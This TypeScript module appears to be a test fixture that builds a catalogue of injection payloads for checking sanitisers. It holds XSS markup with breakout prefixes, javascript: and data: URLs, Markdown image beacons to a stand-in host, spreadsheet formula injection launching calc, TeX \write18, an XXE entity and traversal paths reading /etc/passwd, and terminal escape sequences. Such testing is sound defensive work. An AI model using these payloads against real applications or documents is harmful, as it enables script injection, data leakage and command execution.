/**
 * What has run or reached out somewhere once, in a document, a name or a note, by kind: markup out of every place that
 * text stands in, handlers, addresses, style, Markdown, formulas of spreadsheets and TeX, and characters that end a file
 * for its reader. What runs sets `window.ran`; `HOME` stands for an address of a stranger's.
 */
const HOME = 'https://stranger.invalid';
const RUN = 'window.ran=1';

/** What ends the place that words of a stranger were put into: element, attribute, raw text, comment. */
const ENDS = {
  'in an element': '',
  'in a quoted attribute': '">',
  'in an attribute of apostrophes': "'>",
  'in an attribute without quotes': ' >',
  'in a title': '</title>',
  'in a style': '</style>',
  'in a script': '</script>',
  'in a field': '</textarea>',
  'in a comment': '-->',
  'in a section of characters': ']]>',
  'in a table': '</td></tr></table>',
  'in code': '`</code></pre>',
} as const;

/** What does something by being drawn. */
const ACTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${HOME}/a.js"></script>`,
  `<ScRiPt/x>${RUN}</sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${HOME}/a.png">`,
  `<img srcset="${HOME}/b.png 1x">`,
  `<svg onload=${RUN}>`,
  `<svg><image href="${HOME}/c.png"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<style>@import "${HOME}/a.css";*{background:url(${HOME}/d.png)}</style>`,
  `<link rel=stylesheet href="${HOME}/b.css">`,
  `<iframe src="${HOME}/"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="${HOME}/a.svg"></object>`,
  `<embed src="${HOME}/b.svg">`,
  `<video src="${HOME}/a.mp4" poster="${HOME}/e.png" autoplay></video>`,
  `<meta http-equiv=refresh content="0;url=${HOME}/">`,
  `<base href="${HOME}/">`,
  `<form action="${HOME}/"><input autofocus onfocus=${RUN}></form>`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN} background="${HOME}/f.png">`,
];

/** What a spreadsheet would calculate, and what may stand before it. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BEFORE_SIGNS = ['', ' ', '\t', 'a;', 'a\t', 'a\n', '";"', "a','"];

const controls = (...codes: readonly number[]): string[] =>
  codes.map((code) => `a${String.fromCodePoint(code)}b`);

export const KINDS: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    Object.entries(ENDS).map(([where, end]) => [
      `markup ${where}`,
      ACTS.map((act) => `${end}${act}`),
    ]),
  ),
  'handlers and addresses': [
    `" onmouseover="${RUN}`,
    `' autofocus onfocus='${RUN}`,
    `" style="background:url(${HOME}/g.png)`,
    `x" src="${HOME}/h.png`,
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\nscript:${RUN}`,
    ` \u0001javascript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:image/svg+xml,<svg onload="${RUN}"/>`,
    'file:///etc/passwd',
    '//stranger.invalid/a.png',
    '\\\\stranger.invalid\\share',
    `${HOME}/?q="><script>${RUN}</script>`,
    `url(${HOME}/i.png)`,
    `@import "${HOME}/c.css";`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;script&#62;${RUN}&#60;/script&#62;`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `{{${RUN}}}`,
    `\${${RUN}}`,
    `<%= ${RUN} %>`,
    '__proto__',
    'constructor',
  ],
  Markdown: [
    `![a](${HOME}/a.png)`,
    `\\![a](${HOME}/b.png)`,
    `!\\[a](${HOME}/c.png)`,
    `![a][b]\n\n[b]: ${HOME}/d.png`,
    `![](<${HOME}/e.png>)`,
    `[![a](${HOME}/f.png)](${HOME}/)`,
    `!&#91;a](${HOME}/g.png)`,
    `[a](javascript:${RUN})`,
    `[a](<java\tscript:${RUN}>)`,
    `[a](data:text/html,<script>${RUN}</script>)`,
    `<javascript:${RUN}>`,
    `<${HOME}/>`,
    `[a]: javascript:${RUN}\n\n[a]`,
    '~~~\n```\n~~~~',
    '```html',
    '    <script>',
    '<!--',
    '<![CDATA[',
    '<?php',
    '</div></body>',
    '[^1]: a note',
    '|a|b|\n|-|-|',
    '---\nmarking: none\n---',
    '...\nmarking: none',
    'a\n===',
    '# a\n- b\n1. c\n> d',
    '$$\\href{javascript:window.ran=1}{a}$$',
    '[[a]] ![[b]] ^c #d %%e%%',
  ],
  'formulas of spreadsheets': SIGNS.flatMap((sign) =>
    BEFORE_SIGNS.map((before, at) =>
      at % 2 === 0
        ? `${before}${sign}cmd|' /C calc'!A0`
        : `${before}${sign}HYPERLINK("${HOME}";"a")`,
    ),
  ),
  'references and TeX': [
    '{unbalanced',
    'unbalanced}',
    '}}}',
    '{{{',
    '\\{\\',
    '\\input{/etc/passwd}',
    '\\write18{calc}',
    '\\end{document}%',
    '@article{a, title={b}}',
    '@comment{',
    '@string{jan="a"}',
    '"} # jan # {"',
    'a and b and others, ',
    'TY  - JOUR\r\nER  - ',
    '\nER  - \nTY  - BOOK',
    'ER  - ',
    '%A a\n%T b',
    '<w:p/>]]></w:t>',
    'w:instrText HYPERLINK',
    '&undeclared;',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    '%PDF-1.7\n%%EOF',
    '(a) Tj ET Q',
    '/S /JavaScript /JS (app.alert(1))',
  ],
  'characters that files and terminals read otherwise': [
    ...controls(0x0, 0x1, 0x8, 0xb, 0xc, 0xe, 0x1b, 0x1f, 0x7f, 0x85, 0x9b, 0x9d),
    ...controls(0x2028, 0x2029, 0xfeff, 0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0xd83d, 0xdc00),
    '\u202egnp.exe',
    '\u2066a\u2067b',
    'a\u202ab\u202bc\u202dd',
    '\u200e\u200f\u061c',
    '\u001b[31m\u001b]0;a\u0007\u001b[2J',
    '\u001b]8;;https://stranger.invalid\u0007a\u001b]8;;\u0007',
    '\u009b2J',
    'a\rb\r\nc\n\nd',
    'a'.repeat(3_000),
    `e${'\u0301'.repeat(200)}`,
    '﷽'.repeat(50),
    '👩‍👩‍👧‍👦'.repeat(20),
    '',
    ' ',
    '/../../etc/passwd',
    'CON',
    `${'a'.repeat(300)}.exe`,
  ],
};

export const PAYLOADS: readonly string[] = Object.values(KINDS).flat();
